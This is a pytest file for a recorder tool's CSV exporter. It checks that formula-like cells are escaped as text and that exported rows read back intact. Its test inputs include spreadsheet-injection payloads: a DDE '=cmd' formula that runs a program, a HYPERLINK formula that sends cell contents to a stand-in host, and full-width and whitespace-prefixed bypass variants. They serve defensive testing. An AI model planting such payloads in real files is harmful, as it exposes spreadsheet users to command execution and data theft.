"""A table that no spreadsheet computes."""

import csv
import io

import pytest

from recorder.export.table import Csv, cell
from recorder.store import queries
from recorder.view import asjson


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '=HYPERLINK("http://x.invalid?"&A1)',
        "=cmd|'/c calc'!A0",
        "\uff1d1",
        "\uff201",
    ],
)
def test_formulas_become_text(formula):
    assert cell(formula) == f"'{formula}"


@pytest.mark.parametrize("value", ["claude-opus-4-6", "a=b", "1-2", "", "0.0227", "'x", 5, 0.5, None, -1])
def test_others_stay(value):
    assert cell(value) == value


def test_flags_and_nul():
    assert (cell(True), cell(False), cell("a\0b")) == ("true", "false", "a\u2400b")


def test_it_reads_back(db):
    table = Csv()
    found = list(queries.wholes(db, to=queries.last_seq(db)))
    text = b"".join([table.begin(), *map(table.add, found), table.end()]).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == ["seq", *asjson.COLUMNS]
    for row, whole in zip(rows, found, strict=True):
        assert row["seq"] == str(whole.seq)
        for name, value in asjson.interaction(whole.row).items():
            shown = (
                ""
                if value is None
                else {True: "true", False: "false"}.get(value, value)
                if isinstance(value, bool)
                else value
            )
            assert row[name] == str(shown)
